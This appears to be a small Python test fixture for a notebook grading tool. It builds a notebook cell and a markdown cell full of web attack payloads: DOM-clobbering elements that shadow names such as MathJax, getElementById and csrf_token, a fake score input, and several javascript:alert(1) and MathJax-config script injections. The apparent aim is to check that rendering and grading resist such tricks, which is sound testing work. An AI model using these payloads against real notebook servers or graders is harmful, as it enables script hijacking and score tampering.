"""Gives elements the names and ids that scripts of a notebook page look up, to take their place."""

CELL = """\
from IPython.display import HTML, display
display(HTML("<form id=MathJax name=MathJax><input name=Hub></form><a id=require href='x'></a><img name=getElementById><a id=formgrade_models></a><input name=csrf_token id=score-input value=10><button formaction='javascript:alert(1)'>x</button>"))
"""
SCALE = "honest"
EXPECTED = 10


def edit(notebook):
    notebook["cells"].append(
        {
            "cell_type": "markdown",
            "id": "config",
            "metadata": {},
            "source": "<script type='text/x-mathjax-config'>alert(1)</script> $\\href{javascript:alert(1)}{x}$ $\\require{action}\\class{total}{x}$ $$\\unicode[attack]{x}$$",
        }
    )
